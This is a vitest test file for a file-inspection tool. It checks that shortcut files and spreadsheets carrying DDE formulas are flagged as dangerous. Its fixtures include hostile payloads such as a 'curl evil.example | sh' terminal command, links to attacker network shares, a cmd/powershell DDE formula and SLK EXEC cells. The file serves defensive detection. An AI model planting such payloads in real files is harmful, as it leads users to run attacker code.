import { describe, expect, test } from 'vitest';
import { levelOf } from '../../../src/workers/inspect/report.ts';
import { zip } from '../../files/zip.ts';
import { findingOf, inspect } from './inspecting.ts';

const XML = '<?xml version="1.0" encoding="UTF-8"?>\n';
const plist = (key: string, value: string) =>
  `${XML}<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">\n` +
  `<plist version="1.0"><dict><key>${key}</key>\n  <string>${value}</string></dict></plist>`;
const SHARE = 'file:////evil.example/share/x.app';

const SHORTCUTS = [
  ['bank.webloc', plist('URL', SHARE), 'shortcut', SHARE],
  ['bank.inetloc', plist('URL', SHARE), 'shortcut', SHARE],
  ['setup.terminal', plist('CommandString', 'curl evil.example | sh'), 'shortcut-command', 'curl evil.example | sh'],
  ['work.rdp', 'full address:s:evil.example:3389\r\nredirectclipboard:i:1\r\n', 'shortcut', 'evil.example:3389'],
  ['app.rdp', 'full address:s:a.example\r\nremoteapplicationprogram:s:||calc\r\n', 'shortcut-command', '||calc'],
  ['prices.iqy', 'WEB\r\n1\r\nhttps://evil.example/x.dat\r\n', 'shortcut', 'https://evil.example/x.dat'],
  [
    'files.searchConnector-ms',
    `${XML}<searchConnectorDescription><simpleLocation><url>\\\\evil.example\\x</url></simpleLocation></searchConnectorDescription>`,
    'shortcut',
    '\\\\evil.example\\x',
  ],
  ['tools.msc', `${XML}<MMC_ConsoleFile ConsoleVersion="3.0"></MMC_ConsoleFile>`, 'shortcut', '?'],
] as const;

describe('shortcuts of every system say what they open', () => {
  test.each(SHORTCUTS)('%s', async (name, content, code, target) => {
    expect(findingOf(await inspect(content, name), code)).toEqual({ target });
    expect(levelOf(await inspect(zip([{ path: name, content }]), 'a.zip'))).toBe('dangerous');
  });

  test.each([
    ['a.plist', plist('URL', 'https://example.org')],
    ['a.txt', 'WEB\n1\nhttps://example.org\n'],
    ['a.txt', 'full address:s:example.org\n'],
    ['a.constructor', 'full address:s:example.org\n'],
  ])('the same under a name at which nothing opens (%s) is none', async (name, content) => {
    expect((await inspect(content, name)).type).not.toBe('shortcut');
  });
});

const FORMULA = "=cmd|'/C powershell a|iex'!A0";

describe('tables that tell a spreadsheet what to run', () => {
  test.each([
    ['a.csv', `name,value\nx,"${FORMULA}"\n`, FORMULA],
    ['a.csv', `name,value\n${FORMULA},1\n`, FORMULA],
    ['a.tsv', 'name\tvalue\nx\t+excel|book!R1C1\n', '+excel|book!R1C1'],
    ['a.slk', 'ID;P\nO;E\nNN;NAuto_open;ER101C1\nC;X1;Y101;EEXEC("calc.exe")\n', 'EXEC("calc.exe")'],
    ['a.csv', 'ID;P\nO;E\nC;X1;Y101;EEXEC("calc.exe")\n', 'EXEC("calc.exe")'],
  ])('%s: %s', async (name, content, command) => {
    const report = await inspect(content, name);
    expect(findingOf(report, 'dde')).toEqual({ command });
    expect(levelOf(report)).toBe('dangerous');
  });

  test.each(['name,value\nx,-5|6\ny,=1+1\n', 'name,formula\nsum,"=SUM(A1:A2)"\nlink,a|b!c\n', 'a|b\n=x|y\n-1|2!\n'])(
    '%j tells nothing',
    async (content) => {
      expect(findingOf(await inspect(content, 'a.csv'), 'dde')).toBeUndefined();
    },
  );

  test('a long line of beginnings is searched in no time to speak of', async () => {
    const report = await inspect(`a,b\n${",=a|'".repeat(700_000)}`, 'a.csv', { milliseconds: 5_000 });
    expect(report.limits).toEqual([]);
  });
});
